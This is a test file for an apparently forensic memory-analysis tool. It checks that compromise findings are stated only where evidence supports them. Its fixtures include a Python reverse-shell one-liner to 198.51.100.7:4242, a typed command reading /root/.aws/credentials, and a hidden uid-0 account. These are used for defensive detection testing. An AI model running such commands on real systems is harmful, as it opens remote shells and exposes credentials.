import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { analyse } from '../../../core/analysis/analyse';
import { evidenceOf } from '../../../core/analysis/evidence-in-memory';
import type { Summary } from '../../../core/analysis/summary-schema';
import { ORDINARY_TASKS, volatilityFiles } from '../../support/volatility';

const FINDING = join(__dirname, '..', '..', '..', 'lab', 'scenarios', 'findings', 'bitcoin.json');

async function summaryOf(files: Readonly<Record<string, string>>, finding?: unknown): Promise<Summary> {
  const now = () => new Date('2026-06-01T12:00:00Z');
  return (await analyse(evidenceOf(files), { origin: 'stand-in', now, finding })).summary;
}

const titles = ({ findings }: Summary) => findings.map(({ title }) => title);

describe('evidence that is not what was hoped for', () => {
  test('memory outputs of a Windows machine are named as such, and nothing is claimed', async () => {
    const summary = await summaryOf({ 'memory/windows.pslist.json': '[{"PID": 4, "ImageFileName": "System"}]' });
    expect(summary.assessment).toBe('not-analysed');
    expect(summary.narrative).toEqual(['Nothing could be checked: what happened on this machine is not known.']);
    expect(summary.story.unknown.join(' ')).toContain('those of a Windows machine (windows.pslist.json)');
  });

  test('nobody is said to be unconnected where no connection was looked at', async () => {
    const finding: unknown = JSON.parse(readFileSync(FINDING, 'utf8'));
    const unread = await summaryOf({}, finding);
    expect(unread.story.unknown.join(' ')).not.toMatch(/connected|names/);
    const read = await summaryOf(volatilityFiles(ORDINARY_TASKS), finding);
    expect(read.story.unknown.join(' ')).toMatch(/nothing here names/i);
  });

  test('empty files are no analysis', async () => {
    const summary = await summaryOf({
      'disk/bodyfile.txt': '',
      'memory/linux.pslist.json': '',
      'memory/linux.lsof.json': '',
    });
    expect(summary.assessment).toBe('not-analysed');
    expect(summary.findings).toEqual([]);
  });

  test('a process list that was cut makes nobody hidden', async () => {
    const files = volatilityFiles(ORDINARY_TASKS);
    const list = files['memory/linux.pslist.json'] ?? '';
    const { 'memory/linux.psaux.json': _aux, ...rest } = files;
    const summary = await summaryOf({ ...rest, 'memory/linux.pslist.json': list.slice(0, list.length / 3) });
    expect(titles(summary)).toEqual([]);
    expect(summary.notChecked).toContainEqual(
      expect.objectContaining({ detector: 'process-not-listed', why: expect.stringContaining('not whole') }),
    );
  });

  test('an account with all rights is told from the volatile state alone', async () => {
    const state = {
      version: 1,
      collectedAt: '2026-06-01T11:00:00Z',
      users: [
        { name: 'root', uid: 0, shell: '/bin/bash' },
        { name: 'backup2', uid: 0, shell: '/bin/bash' },
        { name: 'app', uid: 1000, shell: '/bin/bash' },
      ],
    };
    const summary = await summaryOf({ 'volatile/state.json': JSON.stringify(state, null, 1) });
    expect(titles(summary)).toEqual(['/etc/passwd has a second account with all rights: backup2:x:0::::/bin/bash']);
    expect(summary.findings[0]?.evidence[0]?.text).toBe('{"name":"backup2","uid":0,"shell":"/bin/bash"}');
  });

  test('what is typed in a shell below a program tied to the network is an intruder’s', async () => {
    const remote = { local: ['10.0.0.9', 40_000], remote: ['198.51.100.7', 4242] } as const;
    const sockets = [0, 1, 2, 3].map((fd) => ({ fd, sock: 9, state: 'ESTABLISHED', ...remote }));
    const args = 'python3 -c import socket,os;s=socket.socket();s.connect(("198.51.100.7",4242));os.dup2(s.fileno(),0)';
    const summary = await summaryOf(
      volatilityFiles([
        ...ORDINARY_TASKS,
        { pid: 3000, ppid: 1, comm: 'python3', args, exe: '/usr/bin/python3.11', sockets },
        {
          pid: 3001,
          ppid: 3000,
          comm: 'bash',
          args: '/bin/bash',
          exe: '/usr/bin/bash',
          typed: [['2026-06-01T10:00:00+00:00', 'cat /root/.aws/credentials']],
        },
      ]),
    );
    expect(summary.verdict).toBe('Compromised (high confidence): a shell was driven from 198.51.100.7.');
    expect(summary.narrative.join('\n')).toContain(
      'python3 (pid 3000) was a shell driven from 198.51.100.7; one of the commands typed in it or in a shell below it is an intruder’s',
    );
    expect(summary.findings.find(({ detector }) => detector === 'typed-commands')?.confidence).toBe('high');
  });
});
